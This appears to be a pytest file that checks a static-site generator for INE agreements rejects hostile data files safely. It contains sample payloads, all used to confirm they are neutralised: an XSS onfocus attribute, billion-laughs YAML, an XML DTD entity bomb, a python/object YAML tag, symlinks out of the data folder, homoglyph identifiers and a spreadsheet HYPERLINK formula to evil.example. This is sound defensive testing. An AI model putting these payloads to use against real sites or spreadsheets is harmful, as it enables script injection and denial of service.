"""Hostile and unlucky input: every file is made here, and each gives a finding, never a traceback.

What a visitor could be sent (a script through an invisible character), what could exhaust the
machine (nested aliases, deep nesting, huge files and cells), what lies outside data/ (links),
and what a parser could be tricked with (a DTD in a workbook, a quadratic pattern).
"""

from __future__ import annotations

import re
import resource
import shutil
import time
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.contract.findings import ERROR, OBSERVACION
from generator.contract.siglas import Siglas
from generator.input import document
from generator.input.acuerdo_text import extract
from generator.input.load import Limits, load_data_dir
from generator.input.validate import validate
from generator.model.pipeline import check

VALID = Path(__file__).parent / "data" / "valid"
TABLE = "metas/INE-JGE100-2023.csv"
YAML = "acuerdos/INE-JGE100-2023.yml"


@pytest.fixture
def data(tmp_path) -> Path:
    target = tmp_path / "data"
    shutil.copytree(VALID, target, ignore=shutil.ignore_patterns("formatos"))
    return target


def edit(data: Path, relative: str, old: str, new: str) -> None:
    path = data / relative
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def only(findings, code):
    matching = [f for f in findings if f.code == code]
    assert matching, f"no {code} among {[f.describe() for f in findings]}"
    return matching[0]


# ---------------------------------------------------------------- characters no format can carry


@pytest.mark.parametrize("char", ["\x80", "\x9f", "\x00", "\x1b", "\x7f", "\ufffe", "\uffff", "\ufdd0", "\u202e", "\u2066", "\U0001fffe"])
def test_a_forbidden_character_in_a_text_cell_is_removed_with_an_observacion(data, char):
    edit(data, TABLE, "Integrar la estadística", f"{char}**Ejemplo**{{: onfocus=alert(1) }} Integrar la estadística")
    prepared, findings = check(data)
    assert prepared is not None, [f.describe() for f in findings]
    finding = only(findings, "caracter_invalido")
    assert (finding.file, finding.row, finding.column, finding.severity) == ("data/metas/INE-JGE100-2023.csv", 2, "descripcion", OBSERVACION)
    escaped = f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else f"\\U{ord(char):08x}"
    assert finding.value.startswith(escaped + "**Ejemplo**")
    assert escaped in finding.describe() and char not in finding.describe()
    meta = next(m for m in prepared.portal.metas if m.numero == "DEOE-1")
    assert char not in meta.descripcion and meta.descripcion.startswith("**Ejemplo**")


def test_mojibake_with_a_c1_control_is_such_a_case(data):
    edit(data, TABLE, "Director de Cartografía Electoral", "Director de CartografÃ\x81a Electoral")
    prepared, findings = check(data)
    finding = only(findings, "caracter_invalido")
    assert finding.column == "cargos_puestos" and finding.value == "Director de CartografÃ\\u0081a Electoral"
    assert "Director de CartografÃa Electoral" in {c.nombre for c in prepared.portal.cargos}


@pytest.mark.parametrize("column,old", [("numero_meta", "DEOE-2"), ("area_normativa", ",DERFE,"), ("acuerdo", "INE/JGE100/2023,DEOE-3")])
def test_a_forbidden_character_in_an_identifier_is_an_error(data, column, old):
    new = old.replace("-", "\x80-", 1) if column != "area_normativa" else ",DER\u202eFE,"
    if column == "acuerdo":
        new = "INE/JGE100/2023\u200b\x85,DEOE-3".replace("\u200b", "")
    edit(data, TABLE, old, new)
    prepared, findings = check(data)
    assert prepared is None
    finding = only(findings, "caracter_invalido_identificador")
    assert finding.column == column and finding.severity == ERROR and "\\u" in finding.value


def test_xlsx_cells_are_cleaned_too(data):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    lines = (data / TABLE).read_text(encoding="utf-8").splitlines()
    import csv
    rows = list(csv.reader(lines))
    rows[1][6] = "Integrar\u202e la estadística"
    for row in rows:
        sheet.append(row)
    (data / TABLE).unlink()
    workbook.save(data / "metas" / "INE-JGE100-2023.xlsx")
    edit(data, YAML, ".csv", ".xlsx")
    prepared, findings = check(data)
    finding = only(findings, "caracter_invalido")
    assert (finding.file, finding.row, finding.column, finding.value) == ("data/metas/INE-JGE100-2023.xlsx", 2, "descripcion", "Integrar\\u202e la estadística")
    assert prepared.portal.metas[0].descripcion == "Integrar la estadística"


def test_catalogue_names_and_siglas(data):
    (data / "catalogos").mkdir()
    (data / "catalogos" / "areas.csv").write_text("siglas,nombre\nDEOE,Dirección\x85 Ejecutiva de Organización Electoral\nDER\u202dFE,Registro\n", encoding="utf-8")
    _, findings = check(data)
    name = only(findings, "caracter_invalido")
    assert (name.file, name.row, name.column) == ("data/catalogos/areas.csv", 2, "nombre")
    siglas = only(findings, "caracter_invalido_identificador")
    assert (siglas.row, siglas.column, siglas.value) == (3, "siglas", "DER\\u202dFE")


def test_yaml_values_written_as_escapes_are_cleaned(data):
    edit(data, YAML, "titulo: Acuerdo de prueba", 'titulo: "\\x80\\0 \\x01 \\x1b Acuerdo de prueba')
    edit(data, YAML, "evaluación del desempeño", 'evaluación del desempeño"')
    prepared, findings = check(data)
    assert prepared is not None, [f.describe() for f in findings]
    finding = only(findings, "caracter_invalido")
    assert (finding.file, finding.row, finding.column) == ("data/acuerdos/INE-JGE100-2023.yml", 2, "titulo")
    assert finding.value.startswith("\\u0080\\u0000 \\u0001 \\u001b Acuerdo")
    assert prepared.portal.acuerdos[0].titulo.startswith("Acuerdo de prueba")


def test_raw_forbidden_characters_in_a_yaml_file(data):
    edit(data, YAML, "votacion: unanimidad", "votacion: unanim\x85idad\u202e")
    prepared, findings = check(data)
    finding = only(findings, "caracter_invalido")
    assert (finding.row, finding.column) == (6, "votacion")
    assert prepared.portal.acuerdos[0].votacion == "unanimidad"


def test_a_forbidden_character_in_the_clave_is_an_error(data):
    edit(data, YAML, "clave: INE/JGE100/2023", 'clave: "INE/JGE100/2023\\u202e"')
    prepared, findings = check(data)
    assert prepared is None
    assert only(findings, "caracter_invalido_identificador").column == "clave"


# ---------------------------------------------------------------- bounded work

LAUGHS = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n" for i in range(10)) + "clave: *l9\n"


def test_billion_laughs_is_refused_before_it_expands(data):
    (data / YAML).write_text(LAUGHS, encoding="utf-8")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    prepared, findings = check(data)
    assert time.perf_counter() - started < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # KB
    assert prepared is None
    finding = only(findings, "yaml_demasiados_alias")
    assert finding.file == "data/acuerdos/INE-JGE100-2023.yml"
    assert not [f for f in findings if f.code == "acuerdo_inexistente"]


def test_few_aliases_that_expand_a_lot_are_refused_too(data):
    few = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 4) if i else 'lol'}]\n" for i in range(9))  # 32 aliases, 4**8 values
    (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + few, encoding="utf-8")
    _, findings = check(data)
    assert only(findings, "yaml_demasiados_alias")


def test_deep_nesting_in_yaml_is_a_finding(data):
    (data / YAML).write_text("clave: " + "[" * 20_000, encoding="utf-8")
    _, findings = check(data)
    finding = only(findings, "yaml_anidamiento")
    assert finding.row == 1


def test_long_values_are_cut_in_messages(data):
    edit(data, TABLE, "2023-09-15,2024-06-30", "2023-09-15," + "9" * 5000)
    _, findings = check(data)
    finding = only(findings, "fecha_invalida")
    assert len(finding.value) <= 80 and len(finding.describe()) < 400


def test_limits_on_file_size_rows_and_cells(data):
    raw = load_data_dir(data, limits=Limits(max_file_bytes=700))
    assert [f.file for f in raw.findings if f.code == "archivo_demasiado_grande"] == ["data/metas/INE-JGE100-2023.csv"]
    raw = load_data_dir(data, limits=Limits(max_rows=3))
    assert only(raw.findings, "demasiadas_filas").row == 5
    findings = validate(load_data_dir(data, limits=Limits(max_cell_chars=30))).findings
    cells = {(f.file, f.row, f.column) for f in findings if f.code == "celda_demasiado_larga"}
    assert ("data/metas/INE-JGE100-2023.csv", 2, "cargos_puestos") in cells
    assert ("data/acuerdos/INE-JGE100-2023.yml", 2, "titulo") in cells


def test_the_default_limits_are_well_above_thirty_thousand_metas():
    limits = Limits()
    assert limits.max_rows >= 100_000 and limits.max_file_bytes >= 50 * 1024 * 1024 and limits.max_cell_chars >= 20_000


def test_a_cell_over_the_csv_modules_own_limit_is_this_contracts_finding(data):
    edit(data, TABLE, "Integrar la estadística de la elección", "x" * 200_000)
    prepared, findings = check(data)
    assert prepared is None
    finding = only(findings, "celda_demasiado_larga")
    assert (finding.row, finding.column) == (2, "descripcion")
    assert "200,000" in finding.message and "field limit" not in finding.describe()


def test_progress_is_reported(data):
    seen = []
    load_data_dir(data, progress=lambda what, done, total: seen.append((what, done, total)))
    assert ("acuerdos", 1, 1) in seen and ("tablas", 1, 1) in seen


# ---------------------------------------------------------------- inside data/ means inside


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.csv"
    path.write_text("acuerdo,numero_meta\nroot:x:0:0:SECRETO,1\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("folder,name", [("metas", "otro.csv"), ("acuerdos", "otro.yml"), ("catalogos", "areas.csv")])
def test_a_link_out_of_the_data_folder_is_an_error_naming_the_link(data, secret, folder, name):
    (data / folder).mkdir(exist_ok=True)
    (data / folder / name).symlink_to(secret)
    prepared, findings = check(data)
    assert prepared is None
    finding = only(findings, "fuera_de_datos")
    assert finding.file == f"data/{folder}/{name}"
    assert not any("SECRETO" in f.describe() or "root" in f.describe() for f in findings)


def test_a_linked_folder_out_of_the_data_folder(data, secret):
    shutil.rmtree(data / "metas")
    (data / "metas").symlink_to(secret.parent)
    _, findings = check(data)
    assert any(f.code == "fuera_de_datos" and f.file == "data/metas" for f in findings)
    assert not any("SECRETO" in f.describe() for f in findings)


@pytest.mark.parametrize("key", ["documento", "metas"])
def test_a_named_path_that_is_a_link_out(data, secret, key):
    (data / "documentos").mkdir()
    (data / "documentos" / "a.md").symlink_to(secret)
    if key == "metas":
        (data / TABLE).unlink()
        (data / TABLE).symlink_to(secret)
        prepared, findings = check(data)
    else:
        (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + "documento: documentos/a.md\n", encoding="utf-8")
        prepared, findings = check(data)
    assert prepared is None
    finding = next(f for f in findings if f.code == "fuera_de_datos" and f.file.endswith(".yml"))
    assert finding.column == key
    assert not any("SECRETO" in f.describe() for f in findings)


def test_a_path_that_climbs_out_is_not_read(data, secret):
    edit(data, YAML, "metas: metas/INE-JGE100-2023.csv", f"metas: ../{secret.name}")
    _, findings = check(data)
    assert only(findings, "archivo_inexistente").column == "metas"
    assert not any("SECRETO" in f.describe() for f in findings)


# ---------------------------------------------------------------- no tracebacks

NESTED_LISTS = "\n".join("    " * depth + "- elemento" for depth in range(400))


def test_a_documento_with_400_nested_lists_is_a_finding_and_still_renders(data):
    (data / "documentos").mkdir()
    (data / "documentos" / "texto.md").write_text("# ACUERDO\n\n" + NESTED_LISTS + "\n", encoding="utf-8")
    edit(data, YAML, "metas: metas/", "documento: documentos/texto.md\nmetas: metas/")
    prepared, findings = check(data)
    assert prepared is None
    finding = only(findings, "documento_anidado")
    assert (finding.file, finding.row) == ("data/documentos/texto.md", 23)
    html = document.to_html(NESTED_LISTS, Siglas({}))
    assert html.count("elemento") == 400


@pytest.mark.parametrize("text", ["- " * 5000 + "x", ">" * 50_000 + " x", "> - " * 3000 + "x", "1. " * 5000 + "x"])
def test_rendering_never_recurses_without_bound(text):
    depth, _ = document.nesting(text)
    assert depth > 20
    html = document.to_html(text, Siglas({}))
    assert "x" in html


def test_an_xlsx_with_a_dtd_is_refused_in_spanish(data, tmp_path):
    workbook = openpyxl.Workbook()
    workbook.active.append(["acuerdo"])
    workbook.save(tmp_path / "plain.xlsx")
    target = data / "metas" / "INE-JGE100-2023.xlsx"
    with zipfile.ZipFile(tmp_path / "plain.xlsx") as source, zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><worksheet', 1)
            out.writestr(info, content)
    (data / TABLE).unlink()
    edit(data, YAML, ".csv", ".xlsx")
    _, findings = check(data)
    finding = only(findings, "archivo_ilegible")
    assert finding.file == "data/metas/INE-JGE100-2023.xlsx" and "DTD" in finding.message
    assert "ParseError" not in finding.describe()


def test_the_glossary_pattern_is_linear_in_the_line_length():
    started = time.perf_counter()
    extract("# GLOSARIO\n\n**" + " " * 60_000 + "\n\n<b>" + " a" * 30_000 + ":\n")
    assert time.perf_counter() - started < 1


def test_a_yaml_that_is_not_a_mapping_or_has_a_strange_tag(data):
    for text in ("- a\n- b\n", "clave: !!python/object:os.system x\n", "? [a, b]\n: c\n", "---\na: 1\n---\nb: 2\n"):
        (data / YAML).write_text(text, encoding="utf-8")
        _, findings = check(data)
        finding = only(findings, "yaml_invalido")
        assert "Error" not in finding.message and "found" not in finding.message


# ---------------------------------------------------------------- names and spellings that look alike


def test_decomposed_accents_are_the_same_text(data):
    import unicodedata

    edit(data, TABLE, "Director de Cartografía Electoral", unicodedata.normalize("NFD", "Director de Cartografía Electoral"))
    prepared, findings = check(data)
    assert not [f for f in findings if f.code in ("cargos_fusionados", "cargo_variante")]
    assert "Director de Cartografía Electoral" in {c.nombre for c in prepared.portal.cargos}


@pytest.mark.parametrize("name", ["notas\x80.csv", "notas\u202e.csv", b"notas\xff.csv"])
def test_a_file_name_with_a_control_character_or_bytes_that_are_not_utf8_is_shown_escaped(data, name):
    import os

    path = os.path.join(os.fsencode(data / "metas"), name if isinstance(name, bytes) else os.fsencode(name))
    with open(path, "wb") as table:
        table.write(b"acuerdo,numero_meta\n")
    _, findings = check(data)
    for finding in findings:
        line = finding.describe()
        line.encode("utf-8")  # printable on any terminal
        assert "\x80" not in line and "\u202e" not in line


def test_a_loop_of_links_is_refused(data):
    (data / "metas" / "bucle.csv").symlink_to(data / "metas" / "bucle.csv")
    _, findings = check(data)
    assert any(f.code == "fuera_de_datos" and f.file == "data/metas/bucle.csv" for f in findings)


def test_a_key_written_twice_in_the_yaml(data):
    (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + "titulo: Otro título\n", encoding="utf-8")
    _, findings = check(data)
    finding = only(findings, "yaml_clave_repetida")
    assert (finding.row, finding.column) == (18, "titulo") and "línea 2" in finding.message


MARKDOWN_WORST = {"setext headings": "a\n=\n", "rules": "-\n", "escaped angles": "<", "ampersands": "&", "emphasis": "*a", "entities": "&#"}


@pytest.mark.parametrize("unit", MARKDOWN_WORST.values(), ids=MARKDOWN_WORST.keys())
def test_rendering_a_documento_is_linear_in_its_length(unit):
    """Python-Markdown is quadratic in a block's size; blocks and lines are bounded before it sees them."""
    timings = []
    for count in (10_000, 40_000):
        started = time.perf_counter()
        document.to_html(unit * count, Siglas({}))
        timings.append(time.perf_counter() - started)
    assert timings[1] < 5
    assert timings[1] < 10 * max(timings[0], 0.05)  # four times the text, not sixteen times the time


def test_a_documento_over_the_character_limit(data):
    (data / "documentos").mkdir()
    (data / "documentos" / "largo.md").write_text("# ACUERDO\n\n" + "Texto. " * 2_000, encoding="utf-8")
    edit(data, YAML, "metas: metas/", "documento: documentos/largo.md\nmetas: metas/")
    findings = validate(load_data_dir(data, limits=Limits(max_document_chars=5_000))).findings
    assert only(findings, "archivo_demasiado_grande").file == "data/documentos/largo.md"


def test_no_forbidden_character_reaches_any_built_file(data, tmp_path):
    """A build from hostile text in every kind of field: no page, download or feed carries the characters."""
    from conftest import build_site
    from generator.common.text import FORBIDDEN

    edit(data, TABLE, "Integrar la estadística", "\x80**Ejemplo**{: tabindex=0 autofocus=1 onfocus=alert(document.domain) } Integrar la estadística")
    edit(data, TABLE, "Director de Cartografía Electoral", "Director de CartografÃ\x81a Electoral\u202e")
    edit(data, YAML, "titulo: Acuerdo de prueba", 'titulo: "\\x80\\0 \\x01 \\x1b\\uFFFE Acuerdo de prueba')
    edit(data, YAML, "evaluación del desempeño", 'evaluación del desempeño"')
    (data / "catalogos").mkdir()
    (data / "catalogos" / "areas.csv").write_text("siglas,nombre\nDEOE,Dirección\x85 Ejecutiva de Organización Electoral\u2066\nDERFE,Registro\x9b Federal\n", encoding="utf-8")
    site = tmp_path / "site"
    result = build_site(data, site)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "caracter_invalido" in result.stdout
    checked = 0
    for path in site.rglob("*"):
        third_party = path.relative_to(site).parts[0] in ("pagefind", "assets")  # vendored code carries its own bytes
        if path.is_file() and not third_party and path.suffix in (".html", ".csv", ".json", ".xml", ".ics", ".js", ".txt"):
            text = path.read_text(encoding="utf-8", errors="replace")
            assert not FORBIDDEN.search(text), f"{path.relative_to(site)}: {FORBIDDEN.findall(text)[:3]}"
            checked += 1
    assert checked > 10
    page = next(site.glob("metas/*/deoe-1/index.html")).read_text(encoding="utf-8")
    assert "**Ejemplo**{: tabindex=0 autofocus=1 onfocus=alert(document.domain) }" in page.replace("&#34;", '"').replace("&quot;", '"')
    from html.parser import HTMLParser

    class Attributes(HTMLParser):
        names: set = set()

        def handle_starttag(self, tag, attrs):
            self.names.update(name for name, _ in attrs)

    parser = Attributes()
    parser.feed(page)
    assert not [name for name in parser.names if name.startswith("on")]


def test_a_yaml_with_too_many_values_stops_being_read_early(data):
    (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + "".join(f"k{i}: valor {i}\n" for i in range(40_000)), encoding="utf-8")
    started = time.perf_counter()
    _, findings = check(data)
    assert time.perf_counter() - started < 5
    finding = only(findings, "archivo_demasiado_grande")
    assert finding.file == "data/acuerdos/INE-JGE100-2023.yml" and "20,000 valores" in finding.message and "alias" not in finding.message


def test_a_yaml_over_its_size_limit_is_not_parsed(data):
    (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + f'votacion2: "{"x" * 2_000_000}"\n', encoding="utf-8")
    started = time.perf_counter()
    _, findings = check(data)
    assert time.perf_counter() - started < 2
    assert "para el YAML de un acuerdo" in only(findings, "archivo_demasiado_grande").message
    assert only(findings, "filas_bloqueadas")


# ---------------------------------------------------------------- issue 26: files that would crash, stall or fool the reader


def _as_xlsx(data: Path, sheet_xml=None, blank_rows_before_last: int = 0) -> None:
    """The annex as an XLSX, its sheet XML changed by `sheet_xml` (bytes → bytes)."""
    import csv
    import io

    rows = list(csv.reader((data / TABLE).read_text(encoding="utf-8").splitlines()))
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows[:-1] if blank_rows_before_last else rows:
        sheet.append(row)
    if blank_rows_before_last:
        for column, value in enumerate(rows[-1], start=1):
            sheet.cell(row=len(rows) + blank_rows_before_last, column=column, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    source = zipfile.ZipFile(buffer)
    with zipfile.ZipFile(data / "metas" / "INE-JGE100-2023.xlsx", "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            part = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml" and sheet_xml:
                part = sheet_xml(part)
            target.writestr(info, part)
    (data / TABLE).unlink()
    edit(data, YAML, ".csv", ".xlsx")


def _far_cell(reference: str, row: int, declare: bool):
    def change(part: bytes) -> bytes:
        part = part.replace(b"</sheetData>", f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'.encode())
        return re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="A1:{reference}"/>'.encode(), part) if declare else part
    return change


@pytest.mark.parametrize("reference,row", [("XFD1048576", 1048576), ("XFD2000", 2000)])
@pytest.mark.parametrize("declare", [True, False], ids=["declared", "undeclared"])
def test_a_cell_far_away_in_an_xlsx_is_a_finding_within_bounds(data, capfd, reference, row, declare):
    _as_xlsx(data, _far_cell(reference, row, declare))
    start = time.monotonic()
    prepared, findings = check(data)
    assert time.monotonic() - start < 20
    assert prepared is None
    finding = only(findings, "hoja_demasiado_grande")
    assert finding.file == "data/metas/INE-JGE100-2023.xlsx"
    assert (reference in finding.message) == declare
    assert "memory allocation" not in capfd.readouterr().err  # the reader's own abort never reaches the terminal


def test_an_ods_repeating_a_row_a_million_times_is_a_finding_within_bounds(data):
    import csv

    rows = list(csv.reader((data / TABLE).read_text(encoding="utf-8").splitlines()))

    def cells(row):
        return "".join(f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>' for v in row)

    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="Hoja1">'
               f'<table:table-row>{cells(rows[0])}</table:table-row>'
               f'<table:table-row table:number-rows-repeated="1000000">{cells(rows[1])}</table:table-row>'
               '</table:table></office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(data / "metas" / "INE-JGE100-2023.ods", "w") as ods:
        ods.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        ods.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        ods.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                     '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                     '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>', compress_type=zipfile.ZIP_DEFLATED)
    (data / TABLE).unlink()
    edit(data, YAML, ".csv", ".ods")
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    prepared, findings = check(data)
    assert prepared is None
    assert only(findings, "hoja_demasiado_grande").file == "data/metas/INE-JGE100-2023.ods"
    assert max(before, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss) < 1024 * 1024  # KB: the reader stayed under 1 GB


def test_a_csv_header_with_600000_columns_is_refused_at_once(data):
    header, rest = (data / TABLE).read_text(encoding="utf-8").split("\n", 1)
    (data / TABLE).write_text(header + ",x" * 600_000 + "\n" + rest, encoding="utf-8")
    start = time.monotonic()
    prepared, findings = check(data)
    assert time.monotonic() - start < 10
    finding = only(findings, "demasiadas_columnas")
    assert (finding.row, prepared) == (1, None)
    assert "600,013 celdas" in finding.message


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_meta_after_100000_blank_rows_is_still_read(data, kind):
    if kind == "xlsx":
        _as_xlsx(data, blank_rows_before_last=100_005)
    else:
        lines = (data / TABLE).read_text(encoding="utf-8").splitlines()
        (data / TABLE).write_text("\n".join(lines[:-1]) + "\n" + ",,,,,,,,,,,,\n" * 100_005 + lines[-1] + "\n", encoding="utf-8")
    prepared, findings = check(data)
    assert prepared is not None, [f.describe() for f in findings]
    assert len(prepared.portal.metas) == 4


def test_a_csv_over_the_row_limit_after_blank_rows_names_the_real_row(data):
    lines = (data / TABLE).read_text(encoding="utf-8").splitlines()
    (data / TABLE).write_text("\n".join(lines[:3]) + "\n" + ",,,,,,,,,,,,\n" * 10 + "\n".join(lines[3:]) + "\n", encoding="utf-8")
    findings = load_data_dir(data, limits=Limits(max_rows=3)).findings
    assert [(f.code, f.row) for f in findings] == [("demasiadas_filas", 15)]


@pytest.mark.parametrize("where,old,new", [
    ("meta", "2024-06-30", "9999-12-31"),
    ("meta", "2023-09-15", "1979-12-31"),
    ("acuerdo", "fecha_aprobacion: 2023-08-30", "fecha_aprobacion: 1970-01-01"),
    ("acuerdo", "periodo_fin: 2024-08-31", "periodo_fin: 2108-01-01"),
])
def test_a_date_outside_1980_2107_is_a_finding_naming_it_and_the_range(data, where, old, new):
    edit(data, TABLE if where == "meta" else YAML, old, new)
    prepared, findings = check(data)
    assert prepared is None
    finding = only(findings, "fecha_invalida")
    written = new.split(": ")[-1]
    assert finding.value == written and written in finding.message
    assert "1980-01-01" in finding.message and "2107-12-31" in finding.message


@pytest.mark.parametrize("lookalike", ["DEO\u200bE-1", "DEO\u200dE-1", "DEO\u00adE-1", "DE\u041eE-1", "DE\u039fE-1", "\ufeffDEOE-1", "DEO\uff25-1", "DEOE-\uff11", "DEOE-\U0001d7cf"])
def test_a_numero_meta_that_only_looks_like_another_is_a_duplicate_and_an_error(data, lookalike):
    edit(data, TABLE, "DEOE-2,", f"{lookalike},")
    prepared, findings = check(data)
    assert prepared is None
    odd = only(findings, "caracter_invalido_identificador")
    assert (odd.row, odd.column) == (3, "numero_meta")
    if unicodedata.category((lookalike.strip("DEO-1") or lookalike[-1])[0]) == "Cf":
        assert "\\u" in odd.value and "invisible" in odd.message  # a person sees where it is
    else:
        assert "otro alfabeto" in odd.message
    duplicate = only(findings, "meta_duplicada")
    assert (duplicate.row, duplicate.column) == (3, "numero_meta")


def test_an_invisible_character_in_siglas_is_an_identifier_finding(data):
    edit(data, TABLE, ",DERFE,", ",DER\u200bFE,")
    prepared, findings = check(data)
    assert prepared is None
    assert only(findings, "caracter_invalido_identificador").column == "area_normativa"


def test_a_cargo_with_a_cyrillic_letter_is_the_same_cargo(data):
    edit(data, TABLE, "Vocal de Organización Electoral", "Vocal de \u041erganización Electoral")  # a Cyrillic О
    edit(data, TABLE, "Director de Estadística y Documentación Electoral", "Vocal de Organización Electoral de Junta Distrital Ejecutiva")
    prepared, findings = check(data)
    assert prepared is not None, [f.describe() for f in findings]
    cargos = {c.nombre for c in prepared.portal.cargos}
    assert "Vocal de Organización Electoral de Junta Distrital Ejecutiva" in cargos
    assert not any("\u041e" in c for c in cargos)
    assert only(findings, "cargos_fusionados")


def test_areas_listed_twice_and_cargo_aliases_that_loop_are_findings(data):
    (data / "catalogos").mkdir()
    (data / "catalogos" / "areas.csv").write_text("siglas,nombre\nDEOE,Organización\nDERFE,Registro\ndeoe,Otra\n", encoding="utf-8")
    (data / "catalogos" / "cargos.csv").write_text(
        "nombre,ambito,alias\n"
        "Director de Estadística y Documentación Electoral,oficinas_centrales,Director de Estadística\n"
        "Director de Estadística,oficinas_centrales,Director de Estadística y Documentación Electoral\n"
        "Vocal de Organización Electoral de Junta Distrital Ejecutiva,organos_desconcentrados,VOE\n"
        "Vocal Secretario,organos_desconcentrados,VOE\n", encoding="utf-8")
    prepared, findings = check(data)
    assert prepared is None
    found = {(f.file, f.row, f.column, f.value) for f in findings if f.code == "catalogo_repetido"}
    assert found == {
        ("data/catalogos/areas.csv", 4, "siglas", "deoe"),
        ("data/catalogos/cargos.csv", 2, "alias", "Director de Estadística"),
        ("data/catalogos/cargos.csv", 3, "alias", "Director de Estadística y Documentación Electoral"),
        ("data/catalogos/cargos.csv", 5, "alias", "VOE"),
    }


@pytest.mark.parametrize("line,shown", [("~: algo", "~ (clave nula)"), ("null: algo", "null (clave nula)"), ("? \n: algo", "(clave vacía)")])
def test_a_null_yaml_key_is_named_as_written(data, line, shown):
    (data / YAML).write_text((data / YAML).read_text(encoding="utf-8") + line + "\n", encoding="utf-8")
    _, findings = check(data)
    unknown = only(findings, "clave_desconocida")
    assert unknown.column == shown and unknown.row == 18
    assert "None" not in unknown.describe()


def _explorer_function(name: str) -> str:
    """The source of one top-level function of explorador.js (it ends at the first line that is «}»)."""
    source = (Path(__file__).parents[1] / "site_src" / "assets" / "js" / "explorador.js").read_text(encoding="utf-8")
    start = source.index(f"function {name}(")
    return source[start:source.index("\n}\n", start) + 2]


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js to run the explorer's function")
def test_the_explorers_csv_quotes_and_neutralises_column_names_like_metas_csv():
    import csv
    import io
    import json
    import subprocess

    from generator.site import exports, tables

    names = ['nota","=HYPERLINK(""http://evil.example/""&A2,""clic"")","fin', "=SUMA(1;2)", "@x", "descripcion"]
    record = {name: f"v{i}" for i, name in enumerate(names)} | {"descripcion": '=1+"2"'}
    formula = "^[" + re.escape("".join(exports.FORMULA_STARTS)) + "]"  # the rule explorer.py gives the page
    script = _explorer_function("fullCsv") + f"\nprocess.stdout.write(fullCsv([{json.dumps(record)}], new RegExp({json.dumps(formula)})));\n"
    written = subprocess.run(["node", "-e", script], capture_output=True, text=True, check=True).stdout
    rows = list(csv.reader(io.StringIO(written.lstrip("\ufeff"), newline="")))
    assert rows[0] == [tables.neutralise(name) for name in names]  # one cell per column, as the site's CSV
    assert rows[1] == [tables.neutralise(record[name]) for name in names]


def test_a_reserved_address_is_said_in_correct_spanish(data):
    edit(data, TABLE, "Director de Estadística y Documentación Electoral", "Index")
    _, findings = check(data)
    reserved = only(findings, "direccion_reservada")
    assert "daría al cargo o puesto la dirección «index»" in reserved.message
    assert " a el " not in reserved.message


def test_two_acuerdos_with_one_address_name_the_line_of_the_yaml(data):
    (data / "acuerdos" / "INE-JGE100-2023-bis.yml").write_text(
        (data / YAML).read_text(encoding="utf-8").replace("clave: INE/JGE100/2023", "clave: INE/JGE100-2023").replace("metas: metas/INE-JGE100-2023.csv\n", ""), encoding="utf-8")
    _, findings = check(data)
    repeated = only(findings, "direccion_repetida")
    assert "(data/acuerdos/INE-JGE100-2023.yml, línea 1)" in repeated.message


# ---------------------------------------------------------------- issue 26: the command line's own files


def test_extract_acuerdo_reads_a_bounded_amount():
    from generator.input.acuerdo_text import read_text

    start = time.monotonic()
    with pytest.raises(ValueError, match="no es un archivo de texto sino un dispositivo"):
        read_text(Path("/dev/zero"))
    assert time.monotonic() - start < 1


def test_a_text_file_over_the_limit_is_refused_without_reading_it_all(tmp_path):
    from generator.input.acuerdo_text import read_text

    big = tmp_path / "acuerdo.md"
    big.write_bytes(b"a" * 2_000)
    with pytest.raises(ValueError, match="pasa de"):
        read_text(big, limit=1_000)
    with pytest.raises(ValueError, match="es una carpeta, no un archivo"):
        read_text(tmp_path)


def test_synth_refuses_to_write_over_a_file_or_a_non_csv(tmp_path):
    from generator.tools.synth import synth, synth_annex

